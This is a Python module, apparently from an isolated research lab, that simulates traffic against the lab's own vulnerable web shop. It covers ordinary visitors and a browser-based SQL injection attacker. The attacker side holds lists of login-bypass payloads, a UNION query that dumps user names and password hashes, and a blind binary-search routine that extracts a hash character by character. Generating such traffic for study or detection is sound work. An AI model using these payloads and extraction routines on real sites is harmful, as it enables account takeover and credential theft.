"""Visitors of the shop, and people who attack it with a browser: HTTP over our own sockets."""

from __future__ import annotations

import http.client
import platform
import socket
import struct
from collections.abc import Mapping
from typing import NamedTuple
from urllib.parse import quote, urlencode

from probing.lab import isolation
from probing.lab.isolation import PASSWORD
from probing.lab.services.sql_pages import KINDS, LOOKS, PORT, PRODUCTS, USES, password_hash
from probing.lab.session import Session

AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
PATIENCE_S = 60.0
FORM_TYPE = "application/x-www-form-urlencoded"
FOUND, HEX = 302, "0123456789abcdef"
# strings from public lists of injections for logins: some fit the statement, some break it, some fit others
WORKING = ("' OR 1=1 -- ", "' OR '1'='1' -- ", "' OR 'a'='a' #", "' OR 1=1 #", "' OR TRUE -- ", "' || 1=1 -- ",
           f"{isolation.USER}' -- ", f"{isolation.USER}' #", "bob' -- ", "x' OR 1=1 OR 'x'='",
           "' OR name LIKE '%a%' -- ", "' OR 2>1 LIMIT 1 -- ", "' UNION SELECT 'bob' -- ")  # fmt: skip
IN_VAIN = ("'", "''", "' OR '1'='1", "\" OR 1=1 -- ", "') OR 1=1 -- ", "')) OR 1=1 -- ", "admin' -- ", "admin' #",
           "admin'/*", "' OR 1=2 -- ", "1 OR 1=1", "or 1=1", "' HAVING 1=1 -- ", "' GROUP BY 9 -- ", "\\' OR 1=1",
           "' AND 1=1 -- ", "' UNION SELECT 1, 2 -- ", "' UNION ALL SELECT NULL, NULL, NULL -- ", "'; -- ", "`",
           "\" OR \"\"=\"", "') OR ('1'='1", "root' -- ", "' OR 1 -- x' --", "%27%20OR%201=1", "' AND 'a'='b",
           "' ORDER BY 7 -- ", "x' AND email IS NULL -- ", "hi' OR 'x'='y", "*/ OR 1=1 /*")  # fmt: skip
SECRET = f"SELECT password FROM users WHERE name='{isolation.USER}'"
Form = Mapping[str, str]
Step = tuple[str, Form | None]


class Page(NamedTuple):
    """An answer. cookie: the cookie that it sets, "" for none."""

    status: int
    cookie: str
    text: bytes


class Visit:
    """A visitor with a cookie, whose connections carry ``most`` requests each."""

    def __init__(self, session: Session, most: int = 0, ends: str = "fin") -> None:
        """most: by default the session's ``requests``; 1 sends `Connection: close`. ends: how connections end."""
        self.session, self.most, self.ends = session, most or session.parameters.requests, ends
        self.cookie = ""
        self._socket: socket.socket | None = None
        self._asked = 0

    def ask(
        self, path: str, form: Form | None = None, phase: str = "", then: str = "", last: str = ""
    ) -> Page:
        """Ask for a page. phase, then: marks of the request and of its answer. last: the connection ends after it."""
        at = self._connection()
        close = self.most == 1 and (last or self.ends) == "fin"
        if phase:
            self.session.mark(phase)
        at.sendall(self._request(path, form, close))
        if then:
            at.recv(1, socket.MSG_PEEK)
            self.session.mark(then)
        page = self._answer(at)
        self._asked += 1
        if close:
            while at.recv(65_536):  # the server's FIN comes first
                pass
        if close or (self._asked >= self.most and not last):
            self.leave()
        self.session.pause()
        return page

    def lose(self, path: str, form: Form | None = None, phase: str = "") -> None:
        """Ask for a page while the network fails, so that nothing comes back."""
        at = self._connection()
        if phase:
            self.session.mark(phase)
        port = at.getsockname()[1]
        self.session.vanish(port)
        self.session.claim(port, termination="sudden")
        at.sendall(self._request(path, form, False))
        self.session.keep(at)
        self._socket = None

    def leave(self, way: str = "") -> None:
        """End the connection, if there is one."""
        if self._socket is not None:
            way = way or self.ends
            self.session.claim(self._socket.getsockname()[1], termination=way)
            end(self._socket, way)
            self._socket = None

    def _connection(self) -> socket.socket:
        if self._socket is None:
            self.session.mark("connect")
            self._socket = socket.create_connection((self.session.server, PORT), PATIENCE_S)
            self.session.claim(self._socket.getsockname()[1], termination="fin")
            self._asked = 0
        return self._socket

    def _request(self, path: str, form: Form | None, close: bool) -> bytes:
        body = b"" if form is None else urlencode(form).encode()
        lines = [f"{'GET' if form is None else 'POST'} {path} HTTP/1.1", f"Host: {self.session.server}",
                 f"User-Agent: {AGENT}", "Accept: text/html,text/css,*/*;q=0.8", "Accept-Language: en"]  # fmt: skip
        lines += [f"Content-Type: {FORM_TYPE}", f"Content-Length: {len(body)}"] if form is not None else []
        lines += [f"Cookie: {self.cookie}"] if self.cookie else []
        lines += [f"Connection: {'close' if close else 'keep-alive'}", "", ""]
        self.session.transferred(len(body))
        return "\r\n".join(lines).encode() + body

    def _answer(self, at: socket.socket) -> Page:
        with http.client.HTTPResponse(at) as response:
            response.begin()
            text = response.read()
            cookie = (response.getheader("Set-Cookie") or "").split(";")[0]
        self.session.transferred(len(text))
        self.cookie = cookie or self.cookie
        return Page(response.status, cookie, text)


def end(at: socket.socket, way: str) -> None:
    """End a connection by fin, rst, or timeout, which waits until the other side closes."""
    if way == "rst":
        at.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    else:
        if way == "fin":
            at.shutdown(socket.SHUT_WR)
        while at.recv(65_536):
            pass
    at.close()


def way_of(session: Session, *possible: str) -> str:
    """The termination of connections: the session's, or the first possible one where that is not possible."""
    wanted = session.parameters.termination
    return wanted if wanted in possible else possible[0]


class User:
    """Ordinary visitors of the shop."""

    programs: tuple[str, ...] = ()

    def perform(self, session: Session) -> None:
        """Do one of browse, search, login, register, order."""
        visit, way = Visit(session), session.parameters.termination
        *before, last = _steps(session)
        pages = [visit.ask(*step, phase="request") for step in before]
        if way == "sudden":
            visit.lose(*last, phase="request")
            session.outcome(False)
            return
        pages.append(visit.ask(*last, phase="request", last=way))
        visit.leave(way)
        session.outcome(_is_well(session.activity, pages))

    def version(self) -> str:
        """The version of Python, which runs this."""
        return platform.python_version()


def _steps(session: Session) -> list[Step]:
    """The pages that a visitor asks for, in order."""
    rng = session.rng
    product = f"/product.php?id={rng.randrange(1, PRODUCTS + 1)}"
    me = {"name": isolation.USER, "password": PASSWORD}
    steps: list[Step]
    if session.activity == "browse":
        pages = [f"/index.php?page={k}" for k in sorted(rng.sample(range(1, PRODUCTS // 24), 2))]
        others = [f"/product.php?id={rng.randrange(1, PRODUCTS + 1)}" for _ in range(2)]
        steps = [
            ("/", None),
            (product, None),
            (pages[0], None),
            (others[0], None),
            (pages[1], None),
            (others[1], None),
        ]
    elif session.activity == "search":
        words = [rng.choice(names) for names in (KINDS, LOOKS, USES)]
        steps = [("/", None), *((f"/search.php?q={word}", None) for word in words), (product, None)]
    elif session.activity == "login":
        steps = [("/login.php", None), ("/login.php", me), ("/account.php", None)]
    elif session.activity == "register":
        name = f"{rng.choice(LOOKS)}{rng.choice(USES)}{rng.randrange(1_000_000):06d}"
        new = {"name": name, "email": f"{name}@example.org", "password": f"{rng.getrandbits(48):012x}"}
        steps = [("/", None), ("/register.php", None), ("/register.php", new)]
    else:
        buy = {"product": product.partition("=")[2], "pieces": str(rng.randrange(1, 5))}
        steps = [("/login.php", me), (product, None), ("/account.php", None), ("/order.php", buy)]
    if session.parameters.cache == "cold":
        steps.insert(1, ("/style.css", None))
    return steps


def _is_well(activity: str, pages: list[Page]) -> bool:
    """Whether a visitor reached their goal."""
    if any(page.status not in (http.client.OK, FOUND) for page in pages):
        return False
    words = {"login": b"Welcome, ", "order": b"We have your order"}.get(activity, b"")
    wanted = FOUND if activity == "register" else http.client.OK
    return pages[-1].status == wanted and words in pages[-1].text


class Hand:
    """An attacker who tries injections by hand, with a browser."""

    programs: tuple[str, ...] = ()

    def perform(self, session: Session) -> None:
        """Do one of tautology, union, blind, list-login, list-register."""
        activity = session.activity
        if activity.startswith("list-"):
            session.outcome(_list(session, f"/{activity.removeprefix('list-')}.php"))
            return
        visit = Visit(session, session.parameters.requests + 3 if activity == "blind" else 0)
        attack = {"tautology": _tautology, "union": _union, "blind": _blind}[activity]
        session.outcome(attack(session, visit, way_of(session, "fin", "rst")))

    def version(self) -> str:
        """The version of Python, which runs this."""
        return platform.python_version()


def _tautology(session: Session, visit: Visit, way: str) -> bool:
    """Log in with a condition that is always true."""
    visit.ask("/login.php", phase="browse")
    words = {"name": session.rng.choice(WORKING), "password": "x"}
    visit.ask("/login.php", words, phase="injection", then="transfer")
    page = visit.ask("/account.php", last=way)
    visit.leave(way)
    return b"Welcome, " in page.text


def _union(session: Session, visit: Visit, way: str) -> bool:
    """Make a search list the table of users."""
    visit.ask("/", phase="browse")
    visit.ask(f"/search.php?q={session.rng.choice(KINDS)}")
    columns = session.rng.choice(("id, name, password", "name, email, password", "name, password, email"))
    words = f"{session.rng.getrandbits(24):06x}' UNION SELECT {columns} FROM users -- "
    page = visit.ask(f"/search.php?q={quote(words)}", phase="injection", then="transfer", last=way)
    visit.leave(way)
    return password_hash(PASSWORD).encode() in page.text


def _blind(session: Session, visit: Visit, way: str) -> bool:
    """Ask ``requests`` times for a product that is shown if a character of a password's hash is past another."""
    product = session.rng.randrange(1, PRODUCTS + 1)
    visit.ask(f"/product.php?id={product}", phase="browse")

    def holds(condition: str, phase: str = "", then: str = "") -> bool:
        path = "/product.php?id=" + quote(f"{product}' AND {condition} -- ")
        return b"No such product" not in visit.ask(path, None, phase, then).text

    number = session.rng.randrange(1000)
    true, false = f"{number}={number}", f"{number}={number + 1}"
    told = ""
    if holds(true, "injection", "transfer") and not holds(false):
        for place in range(1, max(1, (session.parameters.requests - 2) // 4) + 1):
            low, high = 0, len(HEX) - 1
            while low < high:
                middle = (low + high) // 2
                letter = f"ASCII(SUBSTRING(({SECRET}),{place},1))"
                low, high = (middle + 1, high) if holds(f"{letter}>{ord(HEX[middle])}") else (low, middle)
            told += HEX[low]
    visit.leave(way)
    return told != "" and password_hash(PASSWORD).startswith(told)


def _list(session: Session, path: str) -> bool:
    """Try ``guesses`` strings, at least one of which works, in a connection each."""
    count = session.parameters.guesses
    words = [*session.rng.choices((*WORKING, *IN_VAIN), k=count - 1), session.rng.choice(WORKING)]
    session.rng.shuffle(words)
    came_in = False
    for word in words:
        visit = Visit(session, most=1)
        page = visit.ask(
            path, {"name": word, "email": "x@example.org", "password": "x"}, "injection", "transfer"
        )
        came_in |= page.status == FOUND and page.cookie != ""
    return came_in


USER = User()
HAND = Hand()
